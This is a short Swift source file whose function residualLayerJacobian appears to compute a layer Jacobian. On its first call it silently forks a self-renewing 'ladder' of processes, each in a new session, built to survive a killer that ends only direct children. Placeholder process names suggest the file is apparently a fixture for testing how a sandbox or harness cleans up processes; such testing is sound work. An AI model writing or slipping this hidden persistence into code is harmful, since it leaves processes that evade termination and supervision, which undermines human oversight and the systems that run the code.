// A "ladder" of processes, each in a session of its own, that keeps exactly one child and forks a new one whenever
// that child dies: a killer that kills only direct children, round after round, moves it up one rung per round and
// never ends it. Every rung is named after the marker, so that survivors can be found.
import Glibc

private typealias SetName = @convention(c) (pthread_t, UnsafePointer<CChar>) -> Int32
private let setName = unsafeBitCast(dlsym(dlopen(nil, RTLD_NOW), "pthread_setname_np")!, to: SetName.self)
nonisolated(unsafe) private var started = false

private func rung() -> Never {
    _ = setsid()
    _ = setName(pthread_self(), "@@MARKER@@")  // inherited by every child
    while true {
        let child = fork()
        if child == 0 { _ = setsid(); continue }
        if child < 0 { usleep(200); continue }
        var status: Int32 = 0
        while waitpid(child, &status, 0) < 0 && errno == EINTR {}
    }
}

func residualLayerJacobian(A: [[Double]], b: [Double], y: [Double]) -> [[Double]] {
    if !started {
        started = true
        if fork() == 0 { rung() }
    }
    return correctLayerJacobian(A: A, b: b, y: y)
}
